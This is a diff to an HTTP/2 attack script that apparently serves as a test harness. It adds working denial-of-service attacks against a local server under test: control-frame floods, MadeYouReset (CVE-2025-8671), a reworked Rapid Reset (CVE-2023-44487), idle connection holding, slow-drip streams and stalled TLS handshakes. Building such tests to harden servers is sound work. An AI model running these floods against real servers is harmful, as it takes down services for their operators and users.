@@ -8,6 +8,13 @@ independent of the server under test. Each attack prints one JSON object on stdo
   h2-attack.py nostream <port> <connections> <seconds>
   h2-attack.py rapidreset <port> <streams>
   h2-attack.py malformed <port> <case>
+  h2-attack.py ctlflood <port> <windowupdate|emptydata|priority> <connections> <seconds>
+  h2-attack.py madeyoureset <port> <streams>
+  h2-attack.py idlehold <port> <connections> <seconds> <source address>
+  h2-attack.py slowstreams <port> <connections> <streams> <seconds>
+  h2-attack.py tlsstall <port> <connections> <seconds>
+
+An attack that holds connections prints READY on stderr once they are all open.
 
 The result names, per connection, how the server ended it: the GOAWAY error code, "closed" (closed
 without one) or "open"; for a malformed request, the RST_STREAM or GOAWAY code the server answered.
@@ -53,8 +60,8 @@ MESSAGE = b'\x0a\x03api\x12' + bytes([len(DESCRIPTOR)]) + DESCRIPTOR
 GRPC_MESSAGE = b'\x00' + len(MESSAGE).to_bytes(4, 'big') + MESSAGE
 
 
-def connect(port):
-    s = socket.create_connection(('127.0.0.1', port))
+def connect(port, source=None):
+    s = socket.create_connection(('127.0.0.1', port), source_address=None if source is None else (source, 0))
     s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     return s
 
@@ -122,6 +129,31 @@ def drain(sock, reader, seconds):
         reader.feed(data)
 
 
+def drain_all(socks, readers, seconds):
+    """Reads every socket until the server closes it or `seconds` pass; returns which closed."""
+    closed = [False] * len(socks)
+    deadline = time.monotonic() + seconds
+    for s in socks:
+        s.setblocking(False)
+    while not all(closed):
+        left = deadline - time.monotonic()
+        if left <= 0:
+            break
+        live = [s for i, s in enumerate(socks) if not closed[i]]
+        ready, _, _ = select.select(live, [], [], min(left, 0.2))
+        for r in ready:
+            i = socks.index(r)
+            try:
+                data = r.recv(1 << 20)
+            except (ConnectionResetError, BrokenPipeError, OSError):
+                data = b''
+            if not data:
+                closed[i] = True
+            else:
+                readers[i].feed(data)
+    return closed
+
+
 def outcome(reader, closed):
     if reader.goaway is not None:
         return str(reader.goaway)
@@ -135,16 +167,33 @@ def tally(outcomes):
     return counts
 
 
-def flood(port, kind, connections, seconds):
-    """Connections that send PING (or SETTINGS) as fast as they can and read nothing, then read."""
+def flood_unit(kind):
+    """The frame a flood repeats, and what opens the stream it needs (if any)."""
+    if kind == 'ping':
+        return PingFrame(0, b'12345678').serialize(), b''
+    if kind == 'settings':
+        return SettingsFrame(0).serialize(), b''
+    if kind == 'windowupdate':
+        return WindowUpdateFrame(0, window_increment=1).serialize(), b''
+    if kind == 'priority':
+        return PriorityFrame(3, depends_on=0, stream_weight=15).serialize(), b''
+    if kind == 'emptydata':
+        opening = HeadersFrame(1, hpack.Encoder().encode(GOOD))
+        opening.flags.add('END_HEADERS')
+        return DataFrame(1, b'').serialize(), opening.serialize()
+    raise SystemExit('unknown flood ' + kind)
+
+
+def flood(port, kind, connections, seconds, drain_seconds=5):
+    """Connections that send one kind of frame as fast as they can and read nothing, then read."""
+    unit, opening = flood_unit(kind)
     socks = []
     for _ in range(connections):
         s = connect(port)
         conn = client()
-        s.sendall(conn.data_to_send())
+        s.sendall(conn.data_to_send() + opening)
         s.setblocking(False)
         socks.append(s)
-    unit = PingFrame(0, b'12345678').serialize() if kind == 'ping' else SettingsFrame(0).serialize()
     burst = unit * 1000
     sent = [0] * connections
     dead = [False] * connections
@@ -158,13 +207,208 @@ def flood(port, kind, connections, seconds):
                 sent[i] += s.send(burst)
             except (BrokenPipeError, ConnectionResetError, OSError):
                 dead[i] = True
-    outcomes = []
+    readers = [Reader() for _ in socks]
+    closed = drain_all(socks, readers, drain_seconds)
+    outcomes = [outcome(r, c) for r, c in zip(readers, closed)]
     for s in socks:
-        reader = Reader()
-        closed = drain(s, reader, 5)
-        outcomes.append(outcome(reader, closed))
         s.close()
     return {'outcomes': tally(outcomes), 'framesSent': sum(sent) // len(unit)}
+
+
+def madeyoureset(port, streams, seconds=30):
+    """MadeYouReset (CVE-2025-8671): complete calls, each followed by a frame that makes the server reset
+    its stream (WINDOW_UPDATE of 0), so the client is never the one that resets; at most `streams` calls
+    or `seconds`."""
+    deadline = time.monotonic() + seconds
+    s = connect(port)
+    conn = client()
+    encoder = hpack.Encoder()
+    s.sendall(conn.data_to_send())
+    reader = Reader()
+    sent = 0
+    closed = False
+    stream_id = 1
+    batch = 100
+    while sent < streams and reader.goaway is None and not closed and time.monotonic() < deadline:
+        out = b''
+        for _ in range(batch):
+            headers = HeadersFrame(stream_id, encoder.encode(GOOD))
+            headers.flags.add('END_HEADERS')
+            message = DataFrame(stream_id, GRPC_MESSAGE)
+            message.flags.add('END_STREAM')
+            out += headers.serialize() + message.serialize()
+            out += WindowUpdateFrame(stream_id, window_increment=0).serialize()
+            stream_id += 2
+            sent += 1
+        try:
+            s.sendall(out)
+        except (BrokenPipeError, ConnectionResetError):
+            closed = True
+            break
+        s.setblocking(False)
+        try:
+            while True:
+                data = s.recv(1 << 20)
+                if not data:
+                    closed = True
+                    break
+                reader.feed(data)
+        except BlockingIOError:
+            pass
+        except ConnectionResetError:
+            closed = True
+        s.setblocking(True)
+    if not closed:
+        closed = drain(s, reader, 2)
+    s.close()
+    return {'outcome': outcome(reader, closed), 'streamsSent': sent}
+
+
+def idlehold(port, connections, seconds, source):
+    """One client (one source address) that opens many connections, makes a call on each, then holds
+    them idle; a connection the server closes is opened again."""
+    encoder_block = hpack.Encoder().encode(GOOD)
+
+    def opened():
+        try:
+            s = connect(port, source)
+        except OSError:
+            return None
+        conn = client()
+        headers = HeadersFrame(1, encoder_block)
+        headers.flags.add('END_HEADERS')
+        message = DataFrame(1, GRPC_MESSAGE)
+        message.flags.add('END_STREAM')
+        try:
+            s.sendall(conn.data_to_send() + headers.serialize() + message.serialize())
+        except OSError:
+            s.close()
+            return None
+        s.setblocking(False)
+        return s
+
+    socks = [opened() for _ in range(connections)]
+    sys.stderr.write('READY\n')
+    sys.stderr.flush()
+    reopened = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        live = [s for s in socks if s is not None]
+        ready, _, _ = select.select(live, [], [], 0.1) if live else ([], [], [])
+        for r in ready:
+            try:
+                data = r.recv(1 << 16)
+            except OSError:
+                data = b''
+            if not data:
+                i = socks.index(r)
+                r.close()
+                socks[i] = opened()
+                reopened += 1
+        for i, s in enumerate(socks):
+            if s is None:
+                socks[i] = opened()
+    open_now = sum(1 for s in socks if s is not None)
+    for s in socks:
+        if s is not None:
+            s.close()
+    return {'outcomes': {'open': open_now}, 'reopened': reopened}
+
+
+def slowstreams(port, connections, streams, seconds):
+    """Connections that each open many streams and send their body one byte a second."""
+    socks = []
+    for _ in range(connections):
+        try:
+            s = connect(port)
+        except OSError:
+            continue
+        conn = client()
+        encoder = hpack.Encoder()
+        encoder.encode(GOOD)
+        block = encoder.encode(GOOD)
+        first = HeadersFrame(1, hpack.Encoder().encode(GOOD))
+        first.flags.add('END_HEADERS')
+        out = conn.data_to_send() + first.serialize()
+        for i in range(1, streams):
+            h = HeadersFrame(1 + 2 * i, block)
+            h.flags.add('END_HEADERS')
+            out += h.serialize()
+        try:
+            s.sendall(out)
+        except OSError:
+            s.close()
+            continue
+        s.setblocking(False)
+        socks.append((s, Reader()))
+    sys.stderr.write('READY\n')
+    sys.stderr.flush()
+    drip = [DataFrame(1 + 2 * i, b'\x00').serialize() for i in range(streams)]
+    closed = [False] * len(socks)
+    start = time.monotonic()
+    while time.monotonic() - start < seconds:
+        for i, (s, reader) in enumerate(socks):
+            if closed[i]:
+                continue
+            try:
+                s.send(b''.join(drip))
+            except BlockingIOError:
+                pass
+            except OSError:
+                closed[i] = True
+        end = time.monotonic() + 1
+        while time.monotonic() < end:
+            live = [s for i, (s, _) in enumerate(socks) if not closed[i]]
+            if not live:
+                break
+            ready, _, _ = select.select(live, [], [], 0.2)
+            for r in ready:
+                i = next(j for j, (s, _) in enumerate(socks) if s is r)
+                try:
+                    data = r.recv(1 << 20)
+                except OSError:
+                    data = b''
+                if not data:
+                    closed[i] = True
+                else:
+                    socks[i][1].feed(data)
+    outcomes = [outcome(reader, closed[i]) for i, (s, reader) in enumerate(socks)]
+    refused = sum(sum(1 for c in reader.resets.values() if c == 7) for _, reader in socks)
+    for s, _ in socks:
+        s.close()
+    return {'outcomes': tally(outcomes), 'refusedStreams': refused}
+
+
+def tlsstall(port, connections, seconds):
+    """Connections that stop halfway through their TLS ClientHello."""
+    # A handshake record announcing 512 bytes, and the first bytes of a ClientHello.
+    partial = b'\x16\x03\x01\x02\x00' + b'\x01\x00\x01\xfc\x03\x03' + b'\x00' * 16
+    socks = []
+    for _ in range(connections):
+        try:
+            s = connect(port)
+            s.sendall(partial)
+            s.setblocking(False)
+            socks.append(s)
+        except OSError:
+            pass
+    sys.stderr.write('READY\n')
+    sys.stderr.flush()
+    closed = [False] * len(socks)
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline and not all(closed):
+        live = [s for i, s in enumerate(socks) if not closed[i]]
+        ready, _, _ = select.select(live, [], [], 0.2)
+        for r in ready:
+            try:
+                data = r.recv(1 << 16)
+            except OSError:
+                data = b''
+            if not data:
+                closed[socks.index(r)] = True
+    for s in socks:
+        s.close()
+    return {'outcomes': tally('closed' if c else 'open' for c in closed)}
 
 
 def slowloris(port, connections, seconds):
@@ -230,12 +474,10 @@ def headerblock(port, connections, kilobytes, seconds):
         except (BrokenPipeError, ConnectionResetError):
             pass
         socks.append(s)
-    outcomes = []
-    deadline = time.monotonic() + seconds
+    readers = [Reader() for _ in socks]
+    closed = drain_all(socks, readers, seconds)
+    outcomes = [outcome(r, c) for r, c in zip(readers, closed)]
     for s in socks:
-        reader = Reader()
-        closed = drain(s, reader, max(0.1, deadline - time.monotonic()))
-        outcomes.append(outcome(reader, closed))
         s.close()
     return {'outcomes': tally(outcomes)}
 
@@ -248,31 +490,33 @@ def nostream(port, connections, seconds):
         conn = client()
         s.sendall(conn.data_to_send())
         socks.append(s)
-    outcomes = []
-    deadline = time.monotonic() + seconds
+    readers = [Reader() for _ in socks]
+    closed = drain_all(socks, readers, seconds)
+    outcomes = [outcome(r, c) for r, c in zip(readers, closed)]
     for s in socks:
-        reader = Reader()
-        closed = drain(s, reader, max(0.1, deadline - time.monotonic()))
-        outcomes.append(outcome(reader, closed))
         s.close()
     return {'outcomes': tally(outcomes)}
 
 
-def rapidreset(port, streams):
-    """One connection that opens a stream and resets it at once, over and over (CVE-2023-44487)."""
+def rapidreset(port, streams, seconds=30):
+    """One connection that opens a stream and resets it at once, over and over (CVE-2023-44487), for at
+    most `streams` streams or `seconds`."""
+    deadline = time.monotonic() + seconds
     s = connect(port)
     conn = client()
+    encoder = hpack.Encoder()
     s.sendall(conn.data_to_send())
     reader = Reader()
     sent = 0
     closed = False
     stream_id = 1
     batch = 100
-    while sent < streams and reader.goaway is None and not closed:
+    while sent < streams and reader.goaway is None and not closed and time.monotonic() < deadline:
         out = b''
         for _ in range(batch):
-            conn.send_headers(stream_id, GOOD)
-            out += conn.data_to_send()
+            headers = HeadersFrame(stream_id, encoder.encode(GOOD))
+            headers.flags.add('END_HEADERS')
+            out += headers.serialize()
             # The DATA frame built by hand: h2 would wait for window it never learns of (this client
             # reads the server's frames with hyperframe only). The server gives 16 MiB at once.
             message = DataFrame(stream_id, GRPC_MESSAGE)
@@ -409,8 +653,16 @@ def malformed(port, case):
 def main():
     mode, port, *rest = sys.argv[1:]
     port = int(port)
-    if mode == 'flood':
-        result = flood(port, rest[0], int(rest[1]), float(rest[2]))
+    if mode == 'flood' or mode == 'ctlflood':
+        result = flood(port, rest[0], int(rest[1]), float(rest[2]), float(rest[3]) if len(rest) > 3 else 5)
+    elif mode == 'madeyoureset':
+        result = madeyoureset(port, int(rest[0]), float(rest[1]) if len(rest) > 1 else 30)
+    elif mode == 'idlehold':
+        result = idlehold(port, int(rest[0]), float(rest[1]), rest[2])
+    elif mode == 'slowstreams':
+        result = slowstreams(port, int(rest[0]), int(rest[1]), float(rest[2]))
+    elif mode == 'tlsstall':
+        result = tlsstall(port, int(rest[0]), float(rest[1]))
     elif mode == 'slowloris':
         result = slowloris(port, int(rest[0]), float(rest[1]))
     elif mode == 'headerblock':
@@ -418,7 +670,7 @@ def main():
     elif mode == 'nostream':
         result = nostream(port, int(rest[0]), float(rest[1]))
     elif mode == 'rapidreset':
-        result = rapidreset(port, int(rest[0]))
+        result = rapidreset(port, int(rest[0]), float(rest[1]) if len(rest) > 1 else 30)
     elif mode == 'malformed':
         result = malformed(port, rest[0])
     else:
